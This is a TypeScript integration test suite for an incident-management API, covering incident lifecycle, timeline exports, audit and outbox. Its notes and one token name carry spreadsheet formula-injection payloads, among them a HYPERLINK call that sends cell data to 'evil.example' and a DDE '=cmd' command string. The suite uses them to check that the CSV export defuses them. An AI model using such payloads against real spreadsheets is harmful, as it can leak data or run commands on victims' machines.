// An incident's whole life through the HTTP API: declare, decide, steer, read the timeline in three formats,
// audit, outbox. Real app, real Temporal dev server, real SQLite.
import type { TimelineEvent } from '../../src/domain/timeline';
import type { OutboxMessage } from '../../src/store/store';
import { expectHistoryEncrypted } from '../support/encrypted-history';
import { eventually } from '../support/temporal';
import type { IncidentView } from '../../workflows/messages';
import {
  TOKEN_NAMES,
  declareIncident,
  expectEachEventOnce,
  expectError,
  expectFieldError,
  getIncident,
  parseCsv,
  send,
  startApiHarness,
  timelineOf,
  waitForOpenDecision,
  waitForStatus,
} from '../support/api';
import type { ApiHarness } from '../support/api';
import { cliActionContext } from '../../src/services/audit';

let api: ApiHarness;

beforeAll(async () => {
  api = await startApiHarness({ name: 'api-incidents' });
});
afterAll(async () => {
  await api?.stop();
});

const ALL_PHASES = ['detect', 'report', 'decide', 'execute', 'recover', 'retrospective'];
/** Cells a spreadsheet would run as formulas if they were written as they are. */
const FORMULA_NOTES = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A9)'];

const typesOf = (events: TimelineEvent[], type: TimelineEvent['type']) => events.filter((e) => e.type === type);

test('declare → decide → closed, then the timeline as JSON, CSV and Markdown', async () => {
  const declared = await api.post<{ incident: { id: string; severity: string; service: string } }>('/api/v1/incidents', {
    as: 'commander',
    body: { title: 'Orders DB | primary *down*', runbook: 'flow' },
  });
  expect(declared.status).toBe(201);
  const id = declared.body.incident.id;
  expect(declared.headers.get('location')).toBe(`/api/v1/incidents/${id}`);
  expect(declared.body.incident).toMatchObject({ severity: 'SEV1', service: 'orders-db' });
  const base = `/api/v1/incidents/${id}`;

  const open = await waitForOpenDecision(api, id, 'strategy');
  expect(open).toMatchObject({
    prompt: 'Fail over or restore?',
    options: ['failover', 'restore'],
    default: 'failover',
    approver: 'commander',
  });
  expect(Date.parse(open.deadline)).toBeGreaterThan(Date.now());
  const live = (await getIncident(api, id)).live!;
  expect(live).toMatchObject({ status: 'open', phase: 'decide', currentStep: { id: 'strategy', kind: 'decide' } });

  // Notes that would be formulas in a spreadsheet, one with Markdown table syntax, and one by an actor whose name looks like a formula.
  for (const text of [...FORMULA_NOTES, 'rollback | failover *now*']) {
    expect((await api.post(`${base}/notes`, { as: 'responder', body: { text } })).status).toBe(201);
  }
  const formulaActor = await api.tokenService.create('=cmd|" /C calc"!A0', 'responder', cliActionContext('tests', 'token create'));
  expect(
    (
      await send(api.url, { responder: formulaActor.token }, 'POST', `${base}/notes`, {
        as: 'responder',
        body: { text: 'from the formula actor' },
      })
    ).status,
  ).toBe(201);

  const wrong = expectError(await api.post(`${base}/decisions/strategy`, { as: 'commander', body: { option: 'reboot' } }), 400);
  expect(wrong.message).toContain('not an option');
  expectError(await api.post(`${base}/decisions/strategy`, { as: 'responder', body: { option: 'restore' } }), 403, 'forbidden');
  expectError(await api.post(`${base}/decisions/no-such-step`, { as: 'commander', body: { option: 'restore' } }), 404, 'not_found');
  expectError(await api.post(`${base}/decisions/Not_A_Step`, { as: 'commander', body: { option: 'restore' } }), 404, 'not_found');
  expectFieldError(await api.post(`${base}/decisions/strategy`, { as: 'commander', body: {} }), 'option');

  const decided = await api.post<IncidentView>(`${base}/decisions/strategy`, { as: 'commander', body: { option: 'restore' } });
  expect(decided.status).toBe(200);
  expect(decided.body.decisions.strategy).toMatchObject({ option: 'restore', timedOut: false, by: { name: TOKEN_NAMES.commander } });
  expect(decided.body.openDecisions).toEqual([]);
  const again = expectError(
    await api.post(`${base}/decisions/strategy`, { as: 'commander', body: { option: 'failover' } }),
    409,
    'conflict',
  );
  expect(again.message).toMatch(/already taken|closed/);

  const closed = await waitForStatus(api, id, 'closed');
  expect(closed.live).toBeNull();
  expect(closed.incident).toMatchObject({ phase: 'closed', severity: 'SEV1' });
  expect(closed.incident.resolvedAt).not.toBeNull();
  expect(closed.incident.closedAt).not.toBeNull();
  // All Temporal holds of it is sealed: neither the title nor a note reaches the server in the clear.
  const sealed = await expectHistoryEncrypted(api.client, closed.incident.workflowId, ['Orders DB | primary', 'rollback | failover']);
  expect(sealed.keyIds).toEqual(['test-k1']);

  // JSON: every event once, in order, the six phases entered in order.
  const { events, next } = await timelineOf(api, id);
  expect(next).toBeNull();
  expectEachEventOnce(events);
  expect(events[0]).toMatchObject({ type: 'incident.declared', actor: { name: TOKEN_NAMES.commander } });
  expect(events.at(-1)).toMatchObject({ type: 'incident.closed' });
  expect(typesOf(events, 'phase.entered').map((e) => e.phase)).toEqual(ALL_PHASES);
  expect(typesOf(events, 'phase.entered').map((e) => e.data.phase)).toEqual(ALL_PHASES);
  expect(typesOf(events, 'decision.requested')).toHaveLength(1);
  expect(typesOf(events, 'decision.taken')).toEqual([
    expect.objectContaining({
      phase: 'decide',
      data: { stepId: 'strategy', option: 'restore' },
      actor: { id: `token:${api.tokenIds.commander}`, name: TOKEN_NAMES.commander, role: 'commander' },
    }),
  ]);
  expect(typesOf(events, 'decision.timed_out')).toHaveLength(0);
  expect(typesOf(events, 'note.added').map((e) => e.summary)).toEqual([
    ...FORMULA_NOTES,
    'rollback | failover *now*',
    'from the formula actor',
  ]);
  expect(typesOf(events, 'incident.resolved')).toHaveLength(1);
  for (const e of events) {
    expect(Object.keys(e)).toEqual(expect.arrayContaining(['id', 'at', 'type', 'phase', 'actor', 'summary', 'data', 'seq']));
    expect(e.incidentId).toBe(id);
  }
  expect(events.map((e) => e.at)).toEqual([...events.map((e) => e.at)].sort());

  // Paging through the JSON timeline.
  const page = await timelineOf(api, id, '?after=2&limit=3');
  expect(page.events.map((e) => e.seq)).toEqual([3, 4, 5]);
  expect(page.next).toBe(5);

  // CSV: a header, one row per event, formula-looking cells defused.
  const csv = await api.get(`${base}/timeline?format=csv`, { as: 'viewer' });
  expect(csv.status).toBe(200);
  expect(csv.headers.get('content-type')).toMatch(/^text\/csv/);
  expect(csv.headers.get('content-disposition')).toContain(`${id}-timeline.csv`);
  const rows = parseCsv(csv.text);
  expect(rows[0]).toEqual(['seq', 'at', 'type', 'phase', 'actor', 'summary']);
  const body = rows.slice(1);
  expect(body).toHaveLength(events.length);
  body.forEach((row, i) => {
    const e = events[i]!;
    expect(row.slice(0, 4)).toEqual([String(e.seq), e.at, e.type, e.phase]);
    for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
  const noteRows = body.filter((row) => row[2] === 'note.added');
  expect(noteRows.map((row) => row[5])).toEqual([
    ...FORMULA_NOTES.map((n) => `'${n}`),
    'rollback | failover *now*',
    'from the formula actor',
  ]);
  expect(noteRows.at(-1)![4]).toBe(`'=cmd|" /C calc"!A0`);

  // Markdown: a heading and one table row per event, with table syntax escaped.
  const md = await api.get(`${base}/timeline?format=md`, { as: 'viewer' });
  expect(md.status).toBe(200);
  expect(md.headers.get('content-type')).toMatch(/^text\/markdown/);
  const lines = md.text.split('\n');
  expect(lines[0]).toBe(`# ${id}: Orders DB \\| primary \\*down\\*`);
  expect(md.text).toContain('- Status: closed, phase closed');
  expect(md.text).toContain('- Runbook: flow');
  const tableRows = lines.filter((l) => /^\| \d+ \|/.test(l));
  expect(tableRows).toHaveLength(events.length);
  for (const row of tableRows) expect(row.split(/(?<!\\)\|/).length).toBe(8);
  expect(md.text).toContain('rollback \\| failover \\*now\\*');

  // The notify steps that ran put their messages in the outbox (nothing is configured here).
  const outbox = await api.get<{ items: OutboxMessage[] }>(`/api/v1/outbox?incident=${id}`, { as: 'viewer' });
  expect(outbox.status).toBe(200);
  expect(outbox.body.items.map((m) => m.id).sort()).toEqual(
    ['announce', 'executing', 'opened', 'recovered', 'review'].map((s) => `${id}:${s}`).sort(),
  );
  expect(outbox.body.items.find((m) => m.id === `${id}:executing`)).toMatchObject({ body: 'Executing restore', channel: 'outbox' });
  expect(outbox.body.items.find((m) => m.id === `${id}:announce`)).toMatchObject({
    channel: 'slack',
    to: '#incidents',
    body: `${id} is SEV1`,
  });
});

test('steering: acknowledge, notes, severity, escalate, resolve; then a closed incident refuses everything; all audited', async () => {
  const incident = await declareIncident(api, { title: 'Checkout errors', runbook: 'hold' });
  const id = incident.id;
  const base = `/api/v1/incidents/${id}`;
  expect(incident.severity).toBe('SEV2');
  await waitForOpenDecision(api, id, 'go-ahead');

  const ack = await api.post<IncidentView>(`${base}/acknowledge`, { as: 'responder', headers: { 'x-request-id': 'ack-req-1' } });
  expect(ack.status).toBe(200);
  expect(ack.body).toMatchObject({ status: 'acknowledged', acknowledged: { by: { name: TOKEN_NAMES.responder, role: 'responder' } } });
  expect((await getIncident(api, id)).incident).toMatchObject({ status: 'acknowledged' });
  expect((await getIncident(api, id)).incident.acknowledgedAt).not.toBeNull();
  expect(expectError(await api.post(`${base}/acknowledge`, { as: 'commander', body: {} }), 409, 'conflict').message).toContain(
    'already acknowledged',
  );
  expectFieldError(await api.post(`${base}/acknowledge`, { as: 'responder', body: { by: 'me' } }), 'by');

  const note = await api.post<IncidentView>(`${base}/notes`, { as: 'responder', body: { text: '  error rate 12%  ' } });
  expect(note.status).toBe(201);
  expect(note.body.id).toBe(id);
  expectFieldError(await api.post(`${base}/notes`, { as: 'responder', body: { text: '   ' } }), 'text');
  expectFieldError(await api.post(`${base}/notes`, { as: 'responder', body: { text: '' } }), 'text');
  expectFieldError(await api.post(`${base}/notes`, { as: 'responder', body: {} }), 'text');
  expectFieldError(await api.post(`${base}/notes`, { as: 'responder', body: { text: 'x'.repeat(4001) } }), 'text');

  const severity = await api.post<IncidentView>(`${base}/severity`, {
    as: 'commander',
    body: { severity: 'SEV1', reason: 'payments affected' },
  });
  expect(severity.status).toBe(200);
  expect(severity.body.severity).toBe('SEV1');
  expect((await getIncident(api, id)).incident.severity).toBe('SEV1');
  expect(
    expectError(await api.post(`${base}/severity`, { as: 'commander', body: { severity: 'SEV1' } }), 409, 'conflict').message,
  ).toContain('already SEV1');
  expectFieldError(await api.post(`${base}/severity`, { as: 'commander', body: { severity: 'SEV9' } }), 'severity');
  expectFieldError(await api.post(`${base}/severity`, { as: 'commander', body: {} }), 'severity');

  const escalated = await api.post<IncidentView>(`${base}/escalate`, { as: 'responder', body: { reason: 'db team silent' } });
  expect(escalated.status).toBe(200);
  expect(escalated.body.escalationLevel).toBe(1);
  expect((await api.post<IncidentView>(`${base}/escalate`, { as: 'responder' })).body.escalationLevel).toBe(2);
  expectFieldError(await api.post(`${base}/escalate`, { as: 'responder', body: { level: 3 } }), 'level');

  const resolved = await api.post<IncidentView>(`${base}/resolve`, { as: 'commander', body: { summary: 'bad deploy rolled back' } });
  expect(resolved.status).toBe(200);
  expect(resolved.body).toMatchObject({
    status: 'resolved',
    resolved: { summary: 'bad deploy rolled back', by: { name: TOKEN_NAMES.commander } },
  });
  expectError(await api.post(`${base}/resolve`, { as: 'commander', body: {} }), 409, 'conflict');
  expectError(await api.post(`${base}/acknowledge`, { as: 'responder' }), 409, 'conflict');

  await waitForStatus(api, id, 'closed');
  const steerClosed: [string, unknown][] = [
    ['acknowledge', {}],
    ['escalate', {}],
    ['resolve', {}],
    ['notes', { text: 'too late' }],
    ['severity', { severity: 'SEV3' }],
    ['decisions/go-ahead', { option: 'proceed' }],
  ];
  for (const [action, body] of steerClosed) {
    const res = await api.post(`${base}/${action}`, { as: 'admin', body });
    expect({ action, status: res.status }).toEqual({ action, status: 409 });
    expectError(res, 409, 'conflict');
  }

  const { events } = await timelineOf(api, id);
  expectEachEventOnce(events);
  expect(typesOf(events, 'incident.acknowledged')).toHaveLength(1);
  expect(typesOf(events, 'note.added').map((e) => e.summary)).toEqual(['error rate 12%']);
  expect(typesOf(events, 'severity.changed').map((e) => e.data)).toEqual([{ from: 'SEV2', to: 'SEV1', reason: 'payments affected' }]);
  expect(typesOf(events, 'incident.escalated').map((e) => e.data)).toEqual([
    { level: 1, reason: 'db team silent' },
    { level: 2, reason: null },
  ]);
  expect(typesOf(events, 'incident.resolved')).toEqual([
    expect.objectContaining({ actor: expect.objectContaining({ name: TOKEN_NAMES.commander }) }),
  ]);
  expect(typesOf(events, 'step.skipped').map((e) => e.data.stepId)).toEqual(['go-ahead']);
  // Resolved while deciding: straight on to the retrospective.
  expect(typesOf(events, 'phase.entered').map((e) => e.phase)).toEqual(['detect', 'report', 'decide', 'retrospective']);
  expect(events.at(-1)?.type).toBe('incident.closed');

  // One audit entry per human action that reached the service; refusals by the workflow are 'rejected'.
  const audit = await api.store.listAudit({ incidentId: id, limit: 100 });
  const tally: Record<string, number> = {};
  for (const a of audit) tally[`${a.action} ${a.outcome}`] = (tally[`${a.action} ${a.outcome}`] ?? 0) + 1;
  expect(tally).toEqual({
    'incident.declare ok': 1,
    'incident.acknowledge ok': 1,
    'incident.acknowledge rejected': 3, // twice, after resolve, after close
    'incident.note ok': 1,
    'incident.note rejected': 1,
    'incident.severity ok': 1,
    'incident.severity rejected': 2, // same severity, after close
    'incident.escalate ok': 2,
    'incident.escalate rejected': 1,
    'incident.resolve ok': 1,
    'incident.resolve rejected': 2, // again, after close
    'incident.decide rejected': 1,
  });
  const firstAck = audit.find((a) => a.action === 'incident.acknowledge' && a.outcome === 'ok')!;
  expect(firstAck).toMatchObject({
    actor: { id: `token:${api.tokenIds.responder}`, name: TOKEN_NAMES.responder, role: 'responder' },
    method: 'POST',
    requestId: 'ack-req-1',
    incidentId: id,
  });
  expect(firstAck.path).toMatch(new RegExp(`/${id}/acknowledge$`));
  for (const a of audit.filter((x) => x.outcome === 'rejected')) expect(typeof a.details.error).toBe('string');
  expect(audit.find((a) => a.action === 'incident.severity' && a.outcome === 'ok')?.details).toEqual({
    severity: 'SEV1',
    reason: 'payments affected',
  });
});

test('Idempotency-Key: a repeated acknowledge answers 200 twice and acknowledges once', async () => {
  const { id } = await declareIncident(api, { title: 'Retry storm', runbook: 'hold' });
  const base = `/api/v1/incidents/${id}`;
  await waitForOpenDecision(api, id, 'go-ahead');

  const headers = { 'idempotency-key': 'ack-9f86d081' };
  const first = await api.post<IncidentView>(`${base}/acknowledge`, { as: 'responder', headers });
  const second = await api.post<IncidentView>(`${base}/acknowledge`, { as: 'responder', headers });
  expect([first.status, second.status]).toEqual([200, 200]);
  expect(second.body.acknowledged).toEqual(first.body.acknowledged);

  // A different key is a different request: the incident is already acknowledged.
  expectError(await api.post(`${base}/acknowledge`, { as: 'responder', headers: { 'idempotency-key': 'ack-other' } }), 409, 'conflict');
  // The key names an action: the same key on another action is not a replay of the acknowledge.
  const escalate = await api.post<IncidentView>(`${base}/escalate`, { as: 'responder', headers });
  expect(escalate.status).toBe(200);
  expect(escalate.body.escalationLevel).toBe(1);
  expectError(await api.post(`${base}/acknowledge`, { as: 'responder', headers: { 'idempotency-key': 'bad key' } }), 400);

  const events = await eventually(async () => {
    const { events: all } = await timelineOf(api, id);
    return all.some((e) => e.type === 'incident.escalated') ? all : undefined;
  }, 'the escalation on the timeline');
  expect(typesOf(events, 'incident.acknowledged')).toHaveLength(1);
  expectEachEventOnce(events);
});

test('unknown and malformed incident ids → 404 on every route', async () => {
  for (const id of ['INC-999999', 'INC-0', 'inc-1', 'INC-abc', 'INC-1234567890123', 'not-an-id', '%20']) {
    const base = `/api/v1/incidents/${id}`;
    expectError(await api.get(base, { as: 'viewer' }), 404, 'not_found');
    expectError(await api.get(`${base}/timeline`, { as: 'viewer' }), 404, 'not_found');
    expectError(await api.get(`${base}/timeline?format=csv`, { as: 'viewer' }), 404, 'not_found');
    expectError(await api.post(`${base}/acknowledge`, { as: 'admin' }), 404, 'not_found');
    expectError(await api.post(`${base}/escalate`, { as: 'admin' }), 404, 'not_found');
    expectError(await api.post(`${base}/resolve`, { as: 'admin' }), 404, 'not_found');
    expectError(await api.post(`${base}/notes`, { as: 'admin', body: { text: 'hello' } }), 404, 'not_found');
    expectError(await api.post(`${base}/severity`, { as: 'admin', body: { severity: 'SEV1' } }), 404, 'not_found');
    expectError(await api.post(`${base}/decisions/strategy`, { as: 'admin', body: { option: 'restore' } }), 404, 'not_found');
  }
});

test('a decision whose approver is a responder: a viewer is refused, a commander may decide', async () => {
  const { id } = await declareIncident(api, { title: 'Odd alert', runbook: 'ask-responder' });
  expect(await waitForOpenDecision(api, id, 'verdict')).toMatchObject({ approver: 'responder' });
  expectError(await api.post(`/api/v1/incidents/${id}/decisions/verdict`, { as: 'viewer', body: { option: 'dismiss' } }), 403, 'forbidden');
  const res = await api.post<IncidentView>(`/api/v1/incidents/${id}/decisions/verdict`, { as: 'commander', body: { option: 'dismiss' } });
  expect(res.status).toBe(200);
  expect(res.body.decisions.verdict).toMatchObject({ option: 'dismiss' });
});

// BUG (src/api/routes/incidents.ts, POST /:id/decisions/:stepId): the route demands the commander role, so a
// decision a runbook opens to responders (`approver: responder`, as runbooks/triage.yaml's `verdict` does) can
// never be taken by a responder over HTTP. The workflow's validator already enforces `approver`. Flip once fixed.
test('a responder may take a decision whose approver is a responder', async () => {
  const { id } = await declareIncident(api, { title: 'Odd alert', runbook: 'ask-responder' });
  await waitForOpenDecision(api, id, 'verdict');
  const res = await api.post(`/api/v1/incidents/${id}/decisions/verdict`, { as: 'responder', body: { option: 'investigate' } });
  expect({ status: res.status, body: res.text }).toMatchObject({ status: 200 });
});

/**
 * Occupies the workflow id the next declare will be given, as a second store or a restored read model would:
 * a workflow of another type on a queue nobody polls, so it just stays running. Returns that incident id.
 */
async function occupyNextIncidentId(): Promise<{ id: string; release(): Promise<void> }> {
  const id = `INC-${(await api.store.allocateIncidentNumber()) + 1}`;
  const handle = await api.client.workflow.start('occupied', {
    workflowId: `incident/${id}`,
    taskQueue: `${api.taskQueue}-idle`,
    args: [],
  });
  return { id, release: () => handle.terminate('test finished').then(() => undefined) };
}

test('an incident id whose workflow already runs: the row is taken back and the next declare gets a fresh id', async () => {
  const occupied = await occupyNextIncidentId();
  try {
    const res = await api.post('/api/v1/incidents', { as: 'commander', body: { title: 'Clash', runbook: 'instant' } });
    expect(res.status).not.toBe(201);
    expect(await api.store.getIncident(occupied.id)).toBeUndefined();
    const retry = await declareIncident(api, { title: 'Clash, retried', runbook: 'instant' });
    expect(retry.id).not.toBe(occupied.id);
  } finally {
    await occupied.release();
  }
});

// BUG (src/services/temporal-errors.ts): WorkflowExecutionAlreadyStartedError from workflow.start is not
// translated, so POST /incidents answers 500 when the read model hands out a number whose workflow is running
// (two stores on one Temporal namespace, a read model restored from an older backup). Flip to `test` once fixed.
test('an incident id whose workflow already runs is answered without a 500', async () => {
  const occupied = await occupyNextIncidentId();
  try {
    const res = await api.post('/api/v1/incidents', { as: 'commander', body: { title: 'Clash', runbook: 'instant' } });
    expect(res.status).toBeLessThan(500);
    expectError(res, res.status);
  } finally {
    await occupied.release();
  }
});

test('a decision nobody takes times out to its default; the outbox lists the messages, marked as a drill', async () => {
  const { id } = await declareIncident(api, { title: 'Flapping alert', runbook: 'quick', drill: true });
  await waitForStatus(api, id, 'closed');
  const { events } = await timelineOf(api, id);
  expectEachEventOnce(events);
  expect(typesOf(events, 'decision.timed_out').map((e) => e.data)).toEqual([{ stepId: 'verdict', option: 'investigate' }]);
  expect(typesOf(events, 'decision.taken')).toHaveLength(0);
  expect(typesOf(events, 'incident.resolved')).toEqual([expect.objectContaining({ actor: expect.objectContaining({ id: 'runbook' }) })]);

  const res = await api.get<{ items: OutboxMessage[] }>(`/api/v1/outbox?incident=${id}`, { as: 'viewer' });
  expect(res.status).toBe(200);
  const byStep = Object.fromEntries(res.body.items.map((m) => [m.id.slice(id.length + 1), m]));
  expect(Object.keys(byStep).sort()).toEqual(['review', 'tell-support', 'verdict-note']);
  expect(byStep['tell-support']).toMatchObject({
    incidentId: id,
    channel: 'email',
    to: 'support@example.com',
    drill: true,
    body: '[DRILL] Flapping alert (SEV3)',
  });
  expect(byStep['verdict-note']!.body).toBe('[DRILL] Verdict: investigate');
  for (const m of res.body.items) expect(m.subject).toBe(`[DRILL] [SEV3] ${id}: Flapping alert`);

  // Other incidents' messages stay out; the unfiltered list has them all; bad queries are refused.
  expect((await api.get<{ items: OutboxMessage[] }>('/api/v1/outbox?incident=INC-999999', { as: 'viewer' })).body.items).toEqual([]);
  const all = await api.get<{ items: OutboxMessage[] }>('/api/v1/outbox?limit=500', { as: 'viewer' });
  expect(all.body.items.filter((m) => m.incidentId === id)).toHaveLength(3);
  expect((await api.get<{ items: OutboxMessage[] }>('/api/v1/outbox?limit=1', { as: 'viewer' })).body.items).toHaveLength(1);
  expectFieldError(await api.get('/api/v1/outbox?incident=order-db', { as: 'viewer' }), 'incident');
  expectFieldError(await api.get('/api/v1/outbox?limit=0', { as: 'viewer' }), 'limit');
  expectFieldError(await api.get('/api/v1/outbox?limit=501', { as: 'viewer' }), 'limit');
  expectError(await api.get('/api/v1/outbox?channel=email', { as: 'viewer' }), 400, 'invalid_request');
  expectError(await api.get('/api/v1/outbox'), 401, 'unauthorized');
});
